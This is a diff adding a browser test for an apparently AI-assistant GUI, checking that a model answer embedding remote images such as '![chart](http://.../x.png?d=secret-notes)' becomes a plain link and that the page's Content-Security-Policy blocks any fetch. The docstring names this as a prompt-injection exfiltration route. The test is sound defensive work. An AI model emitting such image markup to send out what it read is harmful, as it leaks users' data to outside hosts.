@@ -164,3 +164,56 @@ def test_the_session_shows_the_context_meter_the_tool_definitions_warning_and_a_
         expect(meter).not_to_have_text(full)  # measured again after the summary replaced the older turns
         screenshot(page, "session-context")
     assert before.startswith("context ~") and full.startswith("context ") and "~" not in full  # usage, not a guess
+
+
+def test_a_remote_image_in_an_answer_is_a_link_and_nothing_is_fetched(
+    workspace: Path, isolated_home: Path, gui_factory: Callable[..., Gui], page: Page
+) -> None:
+    """Y15: an answer holding ``![x](http://HOST/x.png?d=...)`` (an injected prompt's way to send out what the model
+    read) shows a link the person may open; the page fetches nothing from elsewhere, by its rendering and by its
+    Content-Security-Policy, which every answer of the server carries."""
+    import http.server
+    import threading
+
+    seen: list[str] = []
+
+    class Listener(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    threading.Thread(target=listener.serve_forever, daemon=True).start()
+    elsewhere = f"http://127.0.0.1:{listener.server_address[1]}"
+    answer = f"Done. ![chart]({elsewhere}/x.png?d=secret-notes) and <img src='{elsewhere}/raw.png'>"
+    violations: list[str] = []
+    page.on("console", lambda message: violations.append(message.text) if "Content Security" in message.text else None)
+    try:
+        with ScriptedModelServer("openai", [{"reply": "text", "text": answer, "delay_sec": 0.05}]) as model:
+            config(isolated_home, model)
+            gui = gui_factory(workspace, {"KAIROX_TEST_MODEL_KEY": KEY})
+            response = page.goto(gui.url)
+            assert response is not None
+            policy = response.headers["content-security-policy"]
+            assert "default-src 'self'" in policy and "img-src 'self' data:" in policy
+            assert "connect-src 'self'" in policy and "frame-ancestors 'none'" in policy
+            assert "unsafe-inline" not in policy
+            page.click('[data-nav="session"]')
+            send(page, "Draw it.")
+            reply = page.locator('[data-role="assistant"]').first
+            expect(reply.locator("[data-remote-image]")).to_have_text("[image: chart]", timeout=60_000)
+            expect(reply.locator("[data-remote-image]")).to_have_attribute("href", f"{elsewhere}/x.png?d=secret-notes")
+            assert reply.locator("img").count() == 0
+            # the page itself tries: the policy refuses a load from elsewhere as well, and says so
+            with page.expect_console_message(lambda message: "by-script.png" in message.text):
+                page.evaluate(f"new Image().src = '{elsewhere}/by-script.png'")
+            expect(page.locator('[data-action="send"]')).to_be_visible()
+    finally:
+        listener.shutdown()
+    assert seen == []
+    assert any("by-script.png" in v for v in violations), violations
